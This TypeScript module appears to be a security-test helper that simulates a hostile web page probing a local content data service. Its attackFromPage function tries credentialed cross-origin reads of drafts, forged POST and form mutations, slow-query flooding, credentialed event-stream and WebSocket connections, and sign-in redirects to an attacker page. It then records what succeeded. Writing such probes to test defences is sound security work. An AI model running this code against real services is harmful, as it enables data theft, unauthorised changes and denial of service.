/** Where a page aims: an engine's own port, or the site, which passes requests on. */
export interface Aims {
  /** Addresses of the lake, directly and through the site. */
  lakes: string[]
  /** Addresses that show something to those who may see it. */
  shown: string[]
  /** Addresses that take what is sent to them, and what to send. */
  sent: [address: string, body: string][]
  /** A query that takes long, one that answers with drafts, and mutations that nobody may make. */
  slowQuery: string
  draftsQuery: string
  mutations: string
  /** Where a sign-in should lead back to: the attacker's own page. */
  back: string
}

/**
 * What a hostile page can do with an address that is not its own. Runs in that page, so it stands by itself.
 * @returns what it got: answers it could read, pictures, scripts and connections that opened
 */
export async function attackFromPage(aims: Aims): Promise<string[]> {
  const { lakes, shown, sent, slowQuery, draftsQuery, mutations, back } = aims
  const got: string[] = []
  const attempts: Promise<unknown>[] = []
  const query = (text: string) =>
    `/v2026-03-01/data/query/production?perspective=raw&query=${encodeURIComponent(text)}`
  const login = (origin: string) => `/v1/auth/login/local?origin=${encodeURIComponent(origin)}`
  const events = (lake: string) =>
    `${lake}/v2026-03-01/data/listen/production?query=${encodeURIComponent('*')}`

  const read = (address: string, init: RequestInit) =>
    fetch(address, init).then(
      (answer) => answer.ok && got.push(`read ${init.method ?? 'GET'} ${address}`),
      () => {},
    )
  const element = (name: 'img' | 'script' | 'iframe', address: string) =>
    new Promise<void>((resolve) => {
      const made = Object.assign(document.createElement(name), { src: address })
      made.addEventListener('error', () => resolve())
      made.addEventListener('load', () => {
        // A frame loads its error page, too.
        if (name !== 'iframe') got.push(`${name} ${address}`)
        resolve()
      })
      document.body.append(made)
    })
  const connection = (target: EventTarget & { close(): void }, address: string) =>
    new Promise<void>((resolve) => {
      target.addEventListener('error', () => resolve())
      target.addEventListener('open', () => {
        got.push(`opened ${address}`)
        resolve()
      })
    }).then(() => target.close())
  const form = (address: string, fields: Record<string, string>) => {
    const frame = Object.assign(document.createElement('iframe'), { name: `frame-${address}`, hidden: true })
    const made = Object.assign(document.createElement('form'), {
      action: address,
      method: 'post',
      target: frame.name,
    })
    for (const [name, value] of Object.entries(fields)) {
      made.append(Object.assign(document.createElement('input'), { name, value }))
    }
    document.body.append(frame, made)
    made.submit()
  }

  for (const address of shown) {
    attempts.push(read(address, {}), read(address, { credentials: 'include' }))
    attempts.push(element('img', address), element('script', address), element('iframe', address))
  }
  for (const [address, body] of sent) {
    attempts.push(read(address, { method: 'POST', mode: 'no-cors', credentials: 'include', body }))
    const headers = { 'content-type': 'application/json' }
    attempts.push(read(address, { method: 'POST', credentials: 'include', headers, body }))
    form(address, { body })
  }
  for (const lake of lakes) {
    const mutate = `${lake}/v2026-03-01/data/mutate/production`
    const json = { 'content-type': 'application/json' }
    attempts.push(read(`${lake}${query(draftsQuery)}`, { credentials: 'include' }))
    for (let time = 0; time < 5; time += 1) {
      attempts.push(element('img', `${lake}${query(slowQuery)}`), element('img', `${lake}//`))
    }
    attempts.push(read(mutate, { method: 'POST', credentials: 'include', headers: json, body: mutations }))
    attempts.push(read(mutate, { method: 'POST', credentials: 'include', mode: 'no-cors', body: mutations }))
    attempts.push(connection(new EventSource(events(lake), { withCredentials: true }), events(lake)))
    for (const path of ['/mux', '/v2022-06-30/socket/production']) {
      const address = `${lake.replace('http', 'ws')}${path}`
      attempts.push(connection(new WebSocket(address), address))
    }
    for (const origin of [back, `${new URL(lake).origin}/studio`]) {
      attempts.push(read(`${lake}${login(origin)}`, { method: 'POST', credentials: 'include' }))
      attempts.push(element('iframe', `${lake}${login(origin)}`))
      form(`${lake}${login(origin)}`, {})
      window.open(`${lake}${login(origin)}`)
    }
    form(mutate, { mutations })
  }
  const patience = new Promise((resolve) => setTimeout(resolve, 5_000))
  await Promise.race([Promise.allSettled(attempts), patience])
  return got
}
